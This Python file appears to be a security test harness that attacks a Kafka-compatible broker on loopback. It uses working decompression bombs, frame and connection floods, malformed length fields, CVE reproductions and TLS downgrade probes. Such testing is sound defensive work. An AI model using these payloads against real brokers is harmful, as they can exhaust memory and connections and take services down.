# SPDX-License-Identifier: Apache-2.0
"""What a hostile peer may try, one function an attack: it takes the broker's ports, does its worst and returns in a few
words what it saw. A process of its own runs one (main), so that its sockets and its memory are not those of a test:

    attacks.py NAME PORT [TLS_PORT]        prints the words

Only the loopback is attacked, with a bounded number of connections, for a bounded time."""
import os
import random
import resource
import socket
import ssl
import struct
import subprocess
import sys
import time
import zlib

from wire import array, compact_array, compact_string, string, unsigned_varint

TOPIC = 'hostile'
MEGABYTE = 1 << 20
PATIENCE_S = float(os.environ.get('ATTACK_PATIENCE_S', 60))  # of an attack with the broker, in all
API_VERSIONS = b'\0\0\0\x0a\0\x12\0\0\0\0\0\1\xff\xff'


class Peer:
    def __init__(self, port, timeout=PATIENCE_S):
        self.socket = socket.create_connection(('127.0.0.1', port), timeout=timeout)

    def send(self, data):
        """False when the broker has closed."""
        try:
            self.socket.sendall(data)
            return True
        except (ConnectionError, socket.timeout):
            return False

    def receive(self, size):
        data = b''
        while len(data) < size:
            try:
                more = self.socket.recv(size - len(data))
            except ConnectionError:
                more = b''
            if not more:
                return None
            data += more
        return data

    def answer(self):
        """The next answer without its size; None when the broker closed, 'silence' when it did nothing."""
        try:
            head = self.receive(4)
            return head and self.receive(struct.unpack('>i', head)[0])
        except socket.timeout:
            return 'silence'

    def is_closed(self):
        """Whether the broker has closed it by now."""
        self.socket.setblocking(False)
        try:
            return self.socket.recv(1) == b''
        except BlockingIOError:
            return False
        except ConnectionError:
            return True

    def close(self):
        self.socket.close()


def frame(api, version, body, flexible=False):
    head = struct.pack('>hhi', api, version, 7) + string('attack') + (b'\0' if flexible else b'')
    return struct.pack('>i', len(head) + len(body)) + head + body


def in_words(counts):
    return ', '.join(f'{count} {what}' for what, count in sorted(counts.items()))


def count_up(counts, what):
    counts[what] = counts.get(what, 0) + 1


class Patience:
    """For several peers together."""

    def __init__(self, seconds=PATIENCE_S):
        self.deadline = time.monotonic() + seconds

    def give(self, peer):
        peer.socket.settimeout(max(0.2, self.deadline - time.monotonic()))
        return peer


def fate(peer):
    answer = peer.answer()
    return 'closed' if answer is None else 'not answered' if answer == 'silence' else 'answered'


def all_at_once(port, frames):
    """Each frame on a connection of its own, all sent before any answer is read."""
    peers, counts, patience = [], {}, Patience()
    for data in frames:
        try:
            peer = Peer(port)
        except OSError:
            count_up(counts, 'not accepted')
            continue
        patience.give(peer).send(data)
        peers.append(peer)
    patience = Patience()
    for peer in peers:
        count_up(counts, fate(patience.give(peer)))
        peer.close()
    return in_words(counts)


# ---- Numbers that the bytes do not hold

def tagged_fields(port, tls_port):
    """CVE-2026-111115: 16 requests with 12 million empty tagged fields each, before anything is known of the peer. In
    its header, where no version of the API has to fit."""
    count = 12 * 1000 * 1000
    head = struct.pack('>hhi', 18, 3, 7) + string('attack') + unsigned_varint(count)
    body = compact_string('a') + compact_string('1') + b'\0'
    size = len(head) + 2 * count + len(body)
    data = struct.pack('>i', size) + head + bytes([100, 0]) * count + body
    return all_at_once(port, [data] * 16)


def array_lengths(port, tls_port):
    """CVE-2026-111108: counts of elements that no frame can hold, in every API that begins with an array or soon has
    one, in both encodings; and null where none may be."""
    counts = {}
    for count in (0x7fffffff, 0x7ffffffe, 100 * 1000 * 1000, -2, -0x80000000):
        length = struct.pack('>i', count)
        bodies = [(3, 1, length), (0, 3, string(None) + b'\0\1\0\0\0\0' + length), (2, 1, b'\xff\xff\xff\xff' + length),
                  (1, 4, b'\xff\xff\xff\xff' + b'\0' * 13 + length), (8, 2, string('g') + b'\0' * 4 + string('m') + b'\0' * 8 + length),
                  (11, 0, string('g') + b'\0' * 4 + string('') + string('consumer') + length), (19, 2, length), (20, 1, length),
                  (37, 0, length), (32, 1, length), (33, 0, length), (23, 0, length), (21, 0, length), (15, 0, length)]
        for api, version, body in bodies:
            peer = Peer(port, 5)
            peer.send(frame(api, version, body))
            count_up(counts, fate(peer))
            peer.close()
    for count in (0xffffffff, 0x7fffffff, 100 * 1000 * 1000):
        length = unsigned_varint(count)
        for api, version, body in [(3, 9, length), (3, 12, length), (0, 9, b'\0' + b'\0\1\0\0\0\0' + length), (19, 5, length),
                                   (1, 12, b'\xff\xff\xff\xff' + b'\0' * 21 + length)]:
            peer = Peer(port, 5)
            peer.send(frame(api, version, body, flexible=True))
            count_up(counts, fate(peer))
            peer.close()
    return in_words(counts)


def dense_arrays(port, tls_port):
    """Arrays as long as their frames allow: 16 Metadata requests for 20 million topics without a name."""
    count = 20 * 1000 * 1000
    body = unsigned_varint(count + 1) + b'\1' * count
    data = frame(3, 9, body[:-8] + b'\0' * 8, flexible=True)
    return all_at_once(port, [data] * 16)


# ---- Batches

CRC_TABLE = []
for byte in range(256):
    for _ in range(8):
        byte = byte >> 1 ^ (0x82f63b78 if byte & 1 else 0)
    CRC_TABLE.append(byte)


def crc32c(data):
    crc = 0xffffffff
    for byte in data:
        crc = crc >> 8 ^ CRC_TABLE[(crc ^ byte) & 255]
    return crc ^ 0xffffffff


def varint(value):
    return unsigned_varint((value << 1 ^ value >> 63) & 0xffffffffffffffff)


def batch(records, codec=0, count=1, producer=(-1, -1, -1), attributes=0):
    body = struct.pack('>hiqqqhii', attributes | codec, count - 1, 0, 0, *producer, count) + records
    return struct.pack('>qiibI', 0, len(body) + 9, 0, 2, crc32c(body)) + body


def record(value=b'x'):
    body = b'\0' + varint(0) + varint(0) + varint(-1) + varint(len(value)) + value + b'\0'
    return varint(len(body)) + body


def produce(records, version=7):
    partition = struct.pack('>i', 0) + struct.pack('>i', len(records)) + records
    return frame(0, version, string(None) + struct.pack('>hi', 1, 30000) + array([string(TOPIC) + array([partition])]))


def produce_error(answer):
    """The error code of the only partition."""
    if not isinstance(answer, bytes):
        return 'closed' if answer is None else 'not answered'
    return f'error {struct.unpack_from(">h", answer, 4 + 4 + 2 + len(TOPIC) + 4 + 4)[0]}'


def record_head(size):
    """A record whose value has so many bytes, up to that value; the count of its headers follows."""
    fields = b'\0' + varint(0) + varint(0) + varint(-1) + varint(size)
    return varint(len(fields) + size + 1) + fields


def gzip_bomb(size):
    packer = zlib.compressobj(9, wbits=31)
    packed = packer.compress(record_head(size))
    for _ in range(size // MEGABYTE):
        packed += packer.compress(bytes(MEGABYTE))
    return packed + packer.compress(bytes(size % MEGABYTE) + b'\0') + packer.flush()


def zstd_bomb(size):
    def block(kind, length, data, last=0):
        return struct.pack('<I', last | kind << 1 | length << 3)[:3] + data
    head, piece = record_head(size), 128 * 1024
    packed = b'\x28\xb5\x2f\xfd\0\x38' + block(0, len(head), head) + block(1, piece, b'\0') * (size // piece)
    return packed + block(0, size % piece + 1, bytes(size % piece + 1), last=1)


def xxh32_of_two(data):
    """xxHash32 of two bytes with seed 0."""
    mask, prime = 0xffffffff, (0x9e3779b1, 0x85ebca77, 0xc2b2ae3d, 0x27d4eb2f, 0x165667b1)
    hashed = prime[4] + 2
    for byte in data:
        hashed = hashed + byte * prime[4] & mask
        hashed = (hashed << 11 | hashed >> 21) * prime[0] & mask
    hashed = (hashed ^ hashed >> 15) * prime[1] & mask
    hashed = (hashed ^ hashed >> 13) * prime[2] & mask
    return hashed ^ hashed >> 16


def lz4_bomb(size):
    def literal_length(length):
        return (length << 4, b'') if length < 15 else (0xf0, bytes([255] * ((length - 15) // 255) + [(length - 15) % 255]))

    def block(head, zeros):
        """The head, then zeros: all but the last five are one long match."""
        literals, match = head + b'\0', zeros - 1 - 5
        token, extra = literal_length(len(literals))
        rest = match - 4 - 15
        data = bytes([token | 15]) + extra + literals + b'\1\0' + b'\xff' * (rest // 255) + bytes([rest % 255])
        data += b'\x50' + bytes(5)
        return struct.pack('<I', len(data)) + data
    head, piece = record_head(size), 4 * MEGABYTE
    flags = b'\x60\x70'
    packed = b'\x04\x22\x4d\x18' + flags + bytes([xxh32_of_two(flags) >> 8 & 255]) + block(head, piece // 2)
    left = size + 1 - piece // 2
    whole = block(b'', piece)
    return packed + whole * (left // piece) + (block(b'', left % piece) if left % piece > 100 else b'') + bytes(4)


def snappy_block(head, zeros):
    data = unsigned_varint(len(head) + 1 + zeros) + bytes([len(head) << 2]) + head + b'\0'
    return data + b'\xfe\1\0' * (zeros // 64) + (bytes([(zeros % 64 - 1) << 2 | 2, 1, 0]) if zeros % 64 else b'')


XERIAL = b'\x82SNAPPY\0\0\0\0\1\0\0\0\1'


def snappy_bomb(size):
    """In the framing that Java writes."""
    packed, left, head = XERIAL, size, record_head(size)
    while left > 0:
        part = min(left, MEGABYTE)
        block = snappy_block(head, part - 1) if head else snappy_block(b'\0', part - 2)
        packed += struct.pack('>i', len(block)) + block
        head, left = b'', left - part
    end = b'\1\0\0'
    return packed + struct.pack('>i', len(end)) + end


def bare_snappy_bomb(size):
    block = snappy_block(record_head(size), size - 1)
    length = len(record_head(size)) + size + 1
    return unsigned_varint(length) + block[len(unsigned_varint(length - 1)):] + b'\0\0'


def bombs(port, tls_port, codec, packed, at_once=8):
    data = produce(batch(packed, codec))
    peers, counts, started, patience = [], {}, time.monotonic(), Patience()
    for _ in range(at_once):
        peer = Peer(port)
        patience.give(peer).send(data)
        peers.append(peer)
    patience = Patience()
    for peer in peers:
        count_up(counts, produce_error(patience.give(peer).answer()))
        peer.close()
    return f'{in_words(counts)} after {time.monotonic() - started:.1f} s ({at_once} of {len(data) >> 10} kB)'


def bomb_gzip(port, tls_port):
    """700 MB in 700 kB, eight at once."""
    return bombs(port, tls_port, 1, gzip_bomb(700 * MEGABYTE))


def bomb_snappy(port, tls_port):
    """16 MB in 800 kB: it does not go further."""
    return bombs(port, tls_port, 2, snappy_bomb(16 * MEGABYTE))


def bomb_bare_snappy(port, tls_port):
    """The same as one block without framing."""
    return bombs(port, tls_port, 2, bare_snappy_bomb(16 * MEGABYTE))


def bomb_lz4(port, tls_port):
    """240 MB in 1 MB."""
    return bombs(port, tls_port, 3, lz4_bomb(240 * MEGABYTE))


def bomb_zstd(port, tls_port):
    """2 GB in 64 kB."""
    return bombs(port, tls_port, 4, zstd_bomb(2047 * MEGABYTE))


def snappy_lengths(port, tls_port):
    """CVE-2023-34455: lengths of chunks and blocks that their bytes do not hold."""
    huge = b'\xff\xff\xff\xff\7\0\0'
    cases = [XERIAL + b'\x7f\xff\xff\xff\0\0', XERIAL + b'\xff\xff\xff\xff\0\0', XERIAL + b'\0\0\0\7' + huge, huge]
    counts = {}
    for case in cases:
        for _ in range(8):
            peer = Peer(port, 10)
            peer.send(produce(batch(case, 2)))
            count_up(counts, produce_error(peer.answer()))
            peer.close()
    return in_words(counts)


def many_batches(port, tls_port):
    """CVE-2018-17196: several batches in one partition's records, of which only the first might be looked at."""
    plain, idempotent = batch(record()), batch(record(), producer=(1000, 0, 0))
    transactional = batch(record(), producer=(1000, 0, 0), attributes=0x10)
    control = batch(record(), attributes=0x20)
    counts = {}
    for records in (plain + plain, plain + idempotent, plain + transactional, plain + control, control,
                    plain + transactional[:-1], plain[:-1] + transactional, transactional):
        peer = Peer(port, 10)
        peer.send(produce(records))
        count_up(counts, produce_error(peer.answer()))
        peer.close()
    return in_words(counts)


def posing_replica(port, tls_port):
    """CVE-2018-1288: Fetch as if from a replica, from an offset that moves the high watermark if it is believed."""
    seen = []
    for replica in (0, 1, 77, 0x7fffffff, -2, -3):
        partition = struct.pack('>iiqqi', 0, -1, 1 << 40 if replica > 0 else 0, 0, MEGABYTE)
        body = struct.pack('>iiiibii', replica, 0, 1, MEGABYTE, 0, 0, -1) + array([string(TOPIC) + array([partition])])
        peer = Peer(port, 10)
        peer.send(frame(1, 11, body + array([]) + string('')))
        answer = peer.answer()
        peer.close()
        if not isinstance(answer, bytes):
            seen.append(f'{replica}: {"closed" if answer is None else "not answered"}')
            continue
        at = 4 + 4 + 2 + 4 + 4 + 2 + len(TOPIC) + 4
        _, error, watermark = struct.unpack_from('>ihq', answer, at)
        seen.append(f'{replica}: error {error}, high watermark {watermark}')
    return '; '.join(seen)


# ---- Connections

def connect_many(port, count):
    sockets, patience = [], Patience(120)
    for _ in range(count):
        try:
            sockets.append(Peer(port, 20))
        except OSError:
            break
        if time.monotonic() > patience.deadline:
            break
    return sockets


def flood(port, count, data):
    """So many connections that send this and then nothing."""
    peers, patience = connect_many(port, count), Patience()
    for peer in peers:
        peer.socket.settimeout(1 if time.monotonic() < patience.deadline else 0.01)
        peer.send(data)
    time.sleep(3)
    counts = {'connected': len(peers), 'closed after 3 s': sum(peer.is_closed() for peer in peers)}
    for peer in peers:
        peer.close()
    return in_words(counts)


def half_open_frames(port, tls_port):
    """CVE-2022-34917: 10,000 peers, none of whom is known, each with a frame of 100 MB of which 1 kB comes."""
    return flood(port, 10000, struct.pack('>ihhih', 104857600, 0, 9, 1, -1) + bytes(1024))


def half_sent_frames(port, tls_port):
    """The same by 1,000 of whose frames 1 MB comes, as far as the broker takes it."""
    return flood(port, 1000, struct.pack('>ihhih', 104857600, 0, 9, 1, -1) + bytes(MEGABYTE))


def oversized_frames(port, tls_port):
    """10,000 frames that are longer than any may be, on connections that come and go."""
    counts = {}
    for size in (2147483647, 104857601, -1, -2147483648):
        for _ in range(2500):
            try:
                peer = Peer(port, 20)
            except OSError:
                count_up(counts, 'not accepted')
                continue
            peer.send(struct.pack('>i', size) + b'\0' * 64)
            count_up(counts, fate(peer))
            peer.close()
    return in_words(counts)


def byte_by_byte(port, tls_port):
    """200 peers that send a valid request a byte at a time, and 200 that never end theirs."""
    peers, endless = connect_many(port, 200), connect_many(port, 200)
    for byte in API_VERSIONS:
        for peer in peers:
            peer.send(bytes([byte]))
    for byte in struct.pack('>ihhih', 104857600, 0, 9, 1, -1) + bytes(100):
        for peer in endless:
            peer.send(bytes([byte]))
    counts = {}
    patience = Patience()
    for peer in peers:
        count_up(counts, fate(patience.give(peer)))
    counts['endless closed'] = sum(peer.is_closed() for peer in endless)
    for peer in peers + endless:
        peer.close()
    return in_words(counts)


def never_reading(port, tls_port):
    """100 peers that ask for all there is, 50 MB at once, again and again, and read nothing."""
    partition = struct.pack('>iqi', 0, 0, 50 << 20)
    body = struct.pack('>iiiib', -1, 0, 1, 50 << 20, 0) + array([string(TOPIC) + array([partition])])
    data = frame(1, 4, body) * 100
    peers, sent, refused = connect_many(port, 100), 0, 0
    for peer in peers:
        peer.socket.setblocking(False)
    deadline = time.monotonic() + 5
    while time.monotonic() < deadline:
        for peer in peers:
            try:
                sent += peer.socket.send(data)
            except OSError:
                refused += 1
        time.sleep(0.05)
    counts = {'closed': sum(peer.is_closed() for peer in peers), 'kB of requests taken each': (sent >> 10) // len(peers)}
    for peer in peers:
        peer.close()
    return in_words(counts)


# ---- TLS

def tls_fate(port, data, end=False):
    peer = Peer(port, 15)
    peer.send(data)
    if end:
        try:
            peer.socket.shutdown(socket.SHUT_WR)
        except OSError:
            pass
    try:
        while True:
            more = peer.socket.recv(65536)
            if not more:
                return 'closed'
    except socket.timeout:
        return 'left alone'
    except ConnectionError:
        return 'closed'
    finally:
        peer.close()


def tls_garbage(port, tls_port):
    """What is no TLS, and records that are damaged, too long or of the wrong kind."""
    chance = random.Random(7)
    hello = bytes.fromhex('16030100') + bytes([200]) + bytes.fromhex('010000c40303') + chance.randbytes(194)
    cases = [API_VERSIONS, b'GET / HTTP/1.1\r\n\r\n', b'\x80\x2e\1\3\1' + bytes(60), hello, b'\x16\3\1\xff\xff' + bytes(70000),
             b'\x17\3\3\0\x20' + bytes(32), b'\x15\3\3\0\2\2\x28', b'\x14\3\3\0\1\1', b'\x18\3\3\0\3\1\x40\0']
    cases += [chance.randbytes(chance.randrange(10, 5000)) for _ in range(200)]
    counts = {}
    for case in cases:
        count_up(counts, tls_fate(tls_port, case, end=True))
    return in_words(counts)


def client_hello():
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    client = ssl.create_default_context().wrap_bio(incoming, outgoing, server_hostname='localhost')
    try:
        client.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


def tls_half_hello(port, tls_port):
    """5,000 peers whose first message does not get whole."""
    return flood(tls_port, 5000, client_hello()[:100])


def tls_half_open(port, tls_port):
    """5,000 peers that begin a handshake, let the broker answer, and leave it at that."""
    return flood(tls_port, 5000, client_hello())


def s_client(tls_port, *options, stdin=b'Q\n'):
    done = subprocess.run(['openssl', 's_client', '-connect', f'127.0.0.1:{tls_port}', *options], input=stdin,
                          stdout=subprocess.PIPE, stderr=subprocess.STDOUT, timeout=60, check=False)
    return done.stdout.decode(errors='replace')


def tls_downgrade(port, tls_port):
    """Versions and ciphers that are not to be had, and a client that says it fell back to TLS 1.2."""
    seen = {}
    for name, options in {
            'TLS 1.0': ['-tls1', '-cipher', 'ALL@SECLEVEL=0'], 'TLS 1.1': ['-tls1_1', '-cipher', 'ALL@SECLEVEL=0'],
            'TLS 1.2': ['-tls1_2'], 'TLS 1.3': ['-tls1_3'],
            'no encryption': ['-tls1_2', '-cipher', 'eNULL@SECLEVEL=0'],
            'anonymous': ['-tls1_2', '-cipher', 'aNULL@SECLEVEL=0'],
            'fallback to 1.2': ['-tls1_2', '-fallback_scsv']}.items():
        text = s_client(tls_port, *options)
        refused = 'Cipher is (NONE)' in text or 'Cipher    : 0000' in text or 'no cipher match' in text
        seen[name] = 'refused' if refused else 'agreed'
    return ', '.join(f'{name}: {what}' for name, what in seen.items())


def tls_renegotiation(port, tls_port):
    """A client that asks for a new handshake on a TLS 1.2 connection."""
    text = s_client(tls_port, '-tls1_2', stdin=b'R\n')
    if 'RENEGOTIATING' not in text:
        return 'not asked for: ' + text[-200:]
    return 'done' if 'verify return' in text.split('RENEGOTIATING', 1)[1] else 'refused'


ATTACKS = {function.__name__: function for function in (
    tagged_fields, array_lengths, dense_arrays, bomb_gzip, bomb_snappy, bomb_bare_snappy, bomb_lz4, bomb_zstd, snappy_lengths,
    many_batches, posing_replica, half_open_frames, half_sent_frames, oversized_frames, byte_by_byte, never_reading)}
TLS_ATTACKS = {function.__name__: function for function in (
    tls_garbage, tls_half_hello, tls_half_open, tls_downgrade, tls_renegotiation)}


def main():
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    name, ports = sys.argv[1], [int(port) for port in sys.argv[2:]]
    print((ATTACKS | TLS_ATTACKS)[name](ports[0], ports[1] if len(ports) > 1 else None))


if __name__ == '__main__':
    main()
